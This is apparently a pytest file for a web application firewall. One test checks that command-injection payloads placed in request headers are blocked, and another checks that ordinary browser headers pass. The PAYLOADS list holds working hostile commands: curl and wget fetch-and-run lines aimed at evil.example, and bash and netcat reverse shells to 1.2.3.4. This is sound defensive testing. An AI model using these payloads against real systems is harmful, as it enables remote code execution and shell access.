"""Command injection carried in the request headers that services log or use, refused by
the real gateway before any service sees it; and the headers browsers, apps and proxies
really send passing, each header read only by the rule classes that fit what it carries
(waf/config.json's ``inspect.headers``)."""

from __future__ import annotations

import pytest
import requests
from waf_support import rule_classes

RULE_CLASS = rule_classes()
BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "Accept-Language": "en-GB,en;q=0.8",
}
# Written for this test: what an attacker plants in a header for a log viewer, a shell
# script over the logs or a careless `subprocess` to run.
PAYLOADS = [
    "`id`",
    "$(curl -s http://evil.example/x|sh)",
    "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
    "nc -e /bin/sh 1.2.3.4 4444",
    ";wget http://evil.example/sh|sh",
]
HEADERS = {
    "Referer": "https://runnerly.example/runs?q={}",
    "User-Agent": "Mozilla/5.0 {}",
    "X-Forwarded-For": "203.0.113.7, {}",
    "X-Real-IP": "{}",
    "Forwarded": "for={}",
    "Origin": "https://runnerly.example{}",
    "Accept-Language": "en-GB{}",
    "Cookie": "theme=dark; tz={}",
}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("header", HEADERS)
def test_command_injection_in_a_header_is_refused_before_any_service(
    gateway, header, payload
) -> None:
    gw = gateway(waf=True)
    value = HEADERS[header].format(payload)

    response = requests.get(gw.url("/api/web/runs"), headers={**BROWSER, header: value}, timeout=5)

    assert response.status_code == 403, f"{header}: {value!r} passed"
    body = response.json()
    assert body["code"] == "forbidden"
    assert "cmdi" in {RULE_CLASS[rule] for rule in body["rules"]}, body["rules"]
    assert payload not in response.text
    [line] = gw.access_log_lines(expect=1)
    assert line["upstream_addr"] is None


@pytest.mark.parametrize(
    ("header", "value"),
    [
        # A browser's own headers.
        ("User-Agent", "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240805.005; wv)"),
        ("User-Agent", "Wget/1.21.3 (linux-gnu)"),
        ("Accept", "text/html;q=0.9,application/signed-exchange;v=b3;q=0.7,*/*;q=0.8"),
        # Not every rule reads every header: a referrer on a private address is no SSRF
        # (nothing fetches it), and media ranges are no SQL comment.
        ("Referer", "http://127.0.0.1:8080/dashboard?year=2026&month=11"),
        ("Referer", "http://169.254.169.254/latest/"),
        ("Accept", "application/json;q=0.9, */*;q=0.1 -- any"),
        ("X-Forwarded-For", "unknown, 198.51.100.23"),
        ("Cookie", "units=metric; last_tab=splits|laps; id=42"),
    ],
)
def test_the_headers_clients_really_send_pass(gateway, header, value) -> None:
    gw = gateway(waf=True)

    response = requests.get(gw.url("/api/web/runs"), headers={**BROWSER, header: value}, timeout=5)

    assert response.status_code == 200, response.text
    assert response.json()["service"] == "web"
    [line] = gw.access_log_lines(expect=1)
    assert line["waf"] == {"action": "pass", "score": 0, "rules": {}, "mode": "block"}
